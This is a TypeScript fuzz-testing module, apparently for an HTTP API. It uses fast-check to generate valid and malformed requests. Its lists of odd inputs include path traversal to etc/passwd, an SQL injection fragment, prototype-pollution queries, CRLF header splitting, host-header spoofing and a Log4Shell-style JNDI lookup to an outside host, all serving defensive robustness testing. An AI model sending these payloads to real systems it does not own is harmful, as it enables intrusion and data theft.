import fc from 'fast-check';
import { formBodies } from './form-bodies.ts';
import { hostileBodies, hostileStrings, hostileValues, toJson } from './hostile-values.ts';
import type { Operation } from './operations.ts';
import { type Known, valuesOf } from './schema-values.ts';

export interface FuzzRequest {
  /** What is odd about it. */
  readonly trick: string;
  readonly method: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string | readonly string[]>>;
  readonly body?: Buffer | undefined;
}

const json = { 'content-type': 'application/json' };

interface Parts {
  readonly params: Readonly<Record<string, unknown>>;
  readonly query: Readonly<Record<string, unknown>>;
  readonly body: unknown;
}

const written = (value: unknown): string =>
  (typeof value === 'string' ? value : (JSON.stringify(value) ?? '')).replaceAll(/\p{Cs}/gu, '\ufffd');

function addressOf({ path }: Operation, { params, query }: Omit<Parts, 'body'>): string {
  const filled = path.replaceAll(
    /\{(\w+)\}/g,
    (_, name: string) => encodeURIComponent(written(params[name])) || '-',
  );
  const search = Object.entries(query).flatMap(([name, value]) =>
    (Array.isArray(value) ? value : [value]).map(
      (each) => `${encodeURIComponent(name)}=${encodeURIComponent(written(each))}`,
    ),
  );
  return search.length > 0 ? `${filled}?${search.join('&')}` : filled;
}

/** A value somewhere within is replaced, taken away, or gets company. */
function spoilt(value: unknown, steps: readonly number[], by: unknown, how: number): unknown {
  const [step, ...rest] = steps;
  if (typeof value !== 'object' || value === null || step === undefined) return by;
  const keys = Object.keys(value);
  if (keys.length === 0) return by;
  const key = keys[step % keys.length]!;
  const copy = (Array.isArray(value) ? [...value] : { ...value }) as Record<string, unknown>;
  if (how === 0 && rest.length === 0) delete copy[key];
  else if (how === 1 && rest.length === 0) copy[`${key}x`] = by;
  else if (how === 2 && rest.length === 0) copy[key] = [copy[key], by];
  else copy[key] = spoilt(copy[key], rest, by, how);
  return copy;
}

const anyHostile = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom<unknown>(...hostileStrings) },
  { weight: 4, arbitrary: fc.constantFrom<unknown>(...hostileValues) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary' }) as fc.Arbitrary<unknown> },
  { weight: 1, arbitrary: fc.jsonValue() as fc.Arbitrary<unknown> },
);

const oddPaths = [
  '%',
  '%zz',
  '%00',
  '%ff%fe',
  '%c0%ae%c0%ae%2f',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/',
  '..;/',
  '%5c..%5c',
  '-1',
  '0',
  '1e3',
  '2147483648',
  '99999999999',
  '__proto__',
  'constructor',
  '%F0%9F%92%A9',
  '%E2%80%AE',
  'a'.repeat(499),
  'a'.repeat(501),
  'a'.repeat(5000),
  '%0d%0ax-split:%20yes',
  "1'--",
  '{}',
  '*',
  '?',
  '#',
  '/',
];

const oddQueries = [
  '&'.repeat(2000),
  '='.repeat(2000),
  'a'.repeat(6000),
  '%',
  '%zz=1',
  '%00=%00',
  '%ff=%fe',
  '__proto__=1',
  '__proto__[polluted]=yes',
  'constructor[prototype][polluted]=yes',
  'constructor.prototype.polluted=yes',
  Array.from({ length: 1500 }, (_, index) => `k${index}=1`).join('&'),
];

const oddHeaders: readonly Readonly<Record<string, string | readonly string[]>>[] = [
  { authorization: `Bearer ${'x'.repeat(8000)}` },
  { authorization: 'Bearer' },
  { authorization: 'bearer \u00ff\u00fe' },
  { authorization: `Basic ${Buffer.from('a:b').toString('base64')}` },
  { authorization: ['Bearer a', 'Bearer b'] },
  { cookie: 'a=\u00ff\u00e9; sso=%ff; __proto__=1' },
  { cookie: `${'a=b; '.repeat(1000)}` },
  { cookie: ['a=1', 'a=2'] },
  { 'x-device-id': '\u00ff'.repeat(500) },
  { 'x-device-id': 'x'.repeat(5000) },
  { 'user-agent': '\u00e9'.repeat(3000) },
  { 'user-agent': `\${jndi:ldap://elsewhere.example/a}` },
  { 'x-forwarded-for': '999.1.1.1, nonsense', forwarded: 'for="_x"' },
  { 'x-forwarded-host': 'elsewhere.example', 'x-forwarded-proto': 'javascript' },
  { host: 'elsewhere.example' },
  { host: 'a b"<>' },
  { host: '' },
  { origin: 'https://elsewhere.example', 'access-control-request-method': 'PUT' },
  { range: 'bytes=5-1,999999999999999999999-' },
  { 'if-none-match': '"'.repeat(5000) },
  { 'if-modified-since': 'never' },
  { 'accept-encoding': 'br;q=x, *;q=9' },
  { accept: `${'*/*,'.repeat(1000)}` },
  { 'content-encoding': 'gzip' },
  { 'transfer-encoding': 'chunked' },
  { expect: '100-continue' },
  { upgrade: 'websocket', connection: 'upgrade' },
  { 'content-type': `application/json; ${'a=b;'.repeat(1000)}` },
  { 'x-http-method-override': 'DELETE' },
];

const methods = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND', 'QUERY'];

/** Calls of one operation: some that fit, most with something wrong. */
export function requestsOf(operation: Operation, known: Known): fc.Arbitrary<FuzzRequest> {
  const all = (schemas: Operation['params'], required: boolean) =>
    fc.record(
      Object.fromEntries(
        Object.entries(schemas).map(([name, schema]) => [name, valuesOf(schema, known, name)]),
      ),
      { requiredKeys: required ? undefined : [], noNullPrototype: true } as { requiredKeys?: [] },
    );
  const parts: fc.Arbitrary<Parts> = fc.record({
    params: all(operation.params, true),
    query: all(operation.query, false),
    body: operation.body ? valuesOf(operation.body, known) : fc.constant(undefined),
  });
  const asSent = (trick: string, given: Parts, change: Partial<FuzzRequest> = {}): FuzzRequest => ({
    trick,
    method: operation.method,
    path: addressOf(operation, given),
    headers: given.body === undefined ? {} : json,
    body: given.body === undefined ? undefined : Buffer.from(toJson(given.body)),
    ...change,
  });
  const from = <Odd>(odd: fc.Arbitrary<Odd>, make: (given: Parts, odd: Odd) => FuzzRequest) =>
    fc.tuple(parts, odd).map(([given, each]) => make(given, each));

  const fitting = parts.map((given) => asSent('fits', given));
  const steps = fc.array(fc.nat(30), { minLength: 1, maxLength: 4 });
  const spoiltPart = from(fc.tuple(anyHostile, steps, fc.nat(6)), (given, [by, at, how]) => {
    const places = (['params', 'query', 'body'] as const).filter(
      (place) => Object.keys(given[place] ?? {}).length > 0,
    );
    const place = places[at[0]! % Math.max(1, places.length)];
    if (!place) return asSent('a field', { ...given, query: { extra: by } });
    return asSent('a field', { ...given, [place]: spoilt(given[place], at, by, how) } as Parts);
  });
  const body = from(fc.constantFrom(...hostileBodies), (given, [name, type, bytes]) =>
    asSent(`body: ${name}`, given, { headers: type ? { 'content-type': type } : {}, body: bytes }),
  );
  const path = from(fc.tuple(fc.constantFrom(...oddPaths), fc.nat(3)), (given, [odd, place]) => {
    const names = Object.keys(operation.params);
    const name = names[place % Math.max(1, names.length)];
    const fixed = addressOf(operation, {
      params: { ...given.params, ...(name && { [name]: '@odd@' }) },
      query: {},
    });
    return asSent('an address', given, {
      path: name ? fixed.replace('%40odd%40', () => odd) : `${fixed}/${odd}`,
    });
  });
  const query = from(
    fc.tuple(fc.constantFrom(...oddQueries), anyHostile, fc.nat(4)),
    (given, [odd, value, how]) => {
      const address = addressOf(operation, { ...given, query: {} });
      const names = [...Object.keys(operation.query), 'page'];
      const name = names[how % names.length]!;
      const text = encodeURIComponent(written(value)).slice(0, 4000);
      const forms = [
        odd,
        `${name}=1&${name}=${text}`,
        `${name}[]=${text}`,
        `${name}[a][b]=${text}`,
        `${name}=${text}`,
      ];
      return asSent('a query', given, { path: `${address}?${forms[how]}` });
    },
  );
  const header = from(fc.constantFrom(...oddHeaders), (given, odd) => {
    const sent = asSent('a header', given);
    return { ...sent, headers: { ...sent.headers, ...odd } };
  });
  const method = from(fc.constantFrom(...methods), (given, other) =>
    asSent('a method', given, { method: other }),
  );

  const usual = [
    { weight: 10, arbitrary: fitting },
    { weight: 14, arbitrary: spoiltPart },
    { weight: 3, arbitrary: path },
    { weight: 4, arbitrary: query },
    { weight: 3, arbitrary: header },
    { weight: 1, arbitrary: method },
    { weight: operation.body ? 6 : 1, arbitrary: body },
  ];
  if (!operation.form) return fc.oneof(...usual);
  const form = from(formBodies(operation.form, known), (given, { trick, type, bytes }) =>
    asSent(trick, given, { headers: { 'content-type': type }, body: bytes }),
  );
  return fc.oneof(...usual, { weight: 40, arbitrary: form });
}
